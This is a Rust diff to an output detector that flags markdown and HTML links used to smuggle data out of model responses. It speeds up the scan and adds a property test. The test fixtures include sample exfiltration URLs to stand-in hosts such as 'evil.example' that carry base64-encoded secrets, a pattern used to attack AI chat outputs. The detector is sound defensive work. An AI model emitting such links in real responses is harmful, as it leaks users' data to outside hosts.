@@ -196,7 +196,8 @@ impl OutputDetector {
                 ));
             }
         }
-        if let Some(ac) = &self.handlers {
+        // A handler counts only inside a tag: without a '<' there is nothing to look for.
+        if let Some(ac) = self.handlers.as_ref().filter(|_| b.contains(&b'<')) {
             for m in ac.find_iter(text) {
                 let before = m.start().checked_sub(1).and_then(|i| b.get(i));
                 let mut p = m.end();
@@ -270,6 +271,22 @@ pub fn exfiltration(text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>
     let b = text.as_bytes();
     let mut i = 0;
     while i < b.len() {
+        // Every link has a ']' ("](") or an '=' ("src=", "href="): jump to the next one, and
+        // from an '=' back to where its attribute name would start.
+        let Some(p) = b.get(i..).and_then(|t| memchr::memchr2(b']', b'=', t)) else {
+            break;
+        };
+        let p = i + p;
+        i = if b[p] == b']' {
+            p
+        } else if p >= i + 4 && b[p - 4..p].eq_ignore_ascii_case(b"href") {
+            p - 4
+        } else if p >= i + 3 {
+            p - 3
+        } else {
+            i = p + 1;
+            continue;
+        };
         // Markdown: ](url  — image if the bracket opened with "![".
         if b[i] == b']' && b.get(i + 1) == Some(&b'(') {
             let url_start = i + 2;
@@ -321,7 +338,7 @@ pub fn exfiltration(text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>
             i = url_end.max(i + 1);
             continue;
         }
-        i += 1;
+        i = p + 1;
     }
 }
 
@@ -571,6 +588,86 @@ pub fn check_language(text: &str, expect: &LanguageExpectation) -> Option<Findin
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// The byte-by-byte scan `exfiltration` had before it jumped between ']' and '='.
+    fn exfiltration_reference(text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>) {
+        let b = text.as_bytes();
+        let mut i = 0;
+        while i < b.len() {
+            // Markdown: ](url  — image if the bracket opened with "![".
+            if b[i] == b']' && b.get(i + 1) == Some(&b'(') {
+                let url_start = i + 2;
+                let url_end = url_end(b, url_start);
+                let open = b.get(..i).and_then(|h| h.iter().rposition(|c| *c == b'['));
+                let image = open.is_some_and(|o| o > 0 && b.get(o - 1) == Some(&b'!'));
+                let start = open.map(|o| if image { o - 1 } else { o }).unwrap_or(i);
+                if let Some(url) = text.get(url_start..url_end) {
+                    if let Some(score) = url_risk(url, allowed_hosts, image) {
+                        let kind = if image {
+                            "MARKDOWN_IMAGE"
+                        } else {
+                            "MARKDOWN_LINK"
+                        };
+                        out.push(finding(
+                            DetectorId::OutputExfiltration,
+                            kind,
+                            start,
+                            (url_end + 1).min(b.len()),
+                            score,
+                        ));
+                    }
+                }
+                i = url_end.max(i + 1);
+                continue;
+            }
+            // HTML: src= / href= with a quoted URL.
+            if (b[i] == b's' || b[i] == b'h')
+                && (b.get(i..i + 5).is_some_and(|s| {
+                    s.eq_ignore_ascii_case(b"src=\"") || s.eq_ignore_ascii_case(b"src='")
+                }) || b.get(i..i + 6).is_some_and(|s| {
+                    s.eq_ignore_ascii_case(b"href=\"") || s.eq_ignore_ascii_case(b"href='")
+                }))
+            {
+                let image = b[i] == b's';
+                let url_start = i + if image { 5 } else { 6 };
+                let url_end = url_end(b, url_start);
+                if let Some(url) = text.get(url_start..url_end) {
+                    if let Some(score) = url_risk(url, allowed_hosts, image) {
+                        out.push(finding(
+                            DetectorId::OutputExfiltration,
+                            "HTML_URL",
+                            i,
+                            url_end,
+                            score,
+                        ));
+                    }
+                }
+                i = url_end.max(i + 1);
+                continue;
+            }
+            i += 1;
+        }
+    }
+
+    proptest::proptest! {
+        /// Jumping to ']' and '=' finds exactly what looking at every byte found.
+        #[test]
+        fn exfiltration_jumps_find_the_same(parts in proptest::collection::vec(proptest::prop_oneof![
+            proptest::prelude::Just("![a](https://evil.example/p.png?q=c2VjcmV0IHRva2Vu)".to_owned()),
+            proptest::prelude::Just("[x](https://e.example/c?d=aGVsbG8gd29ybGQgc2VjcmV0) ".to_owned()),
+            proptest::prelude::Just("<img src=\"https://e.example/x?q=c2VjcmV0IHRva2VuIGhlcmU\">".to_owned()),
+            proptest::prelude::Just("<a HREF='https://e.example/aGVsbG8gd29ybGQgc2VjcmV0aGVsbG8'>".to_owned()),
+            proptest::prelude::Just("Hsrc=\"".to_owned()),
+            "[ -~]{0,6}",
+            "[\\]\\[()=!hrefsc'\"]{0,6}",
+        ], 0..8)) {
+            let text = parts.concat();
+            let (mut a, mut b) = (Vec::new(), Vec::new());
+            exfiltration(&text, &[], &mut a);
+            exfiltration_reference(&text, &[], &mut b);
+            proptest::prop_assert_eq!(a, b);
+        }
+    }
 
     fn kinds(text: &str) -> Vec<&'static str> {
         static D: std::sync::OnceLock<OutputDetector> = std::sync::OnceLock::new();
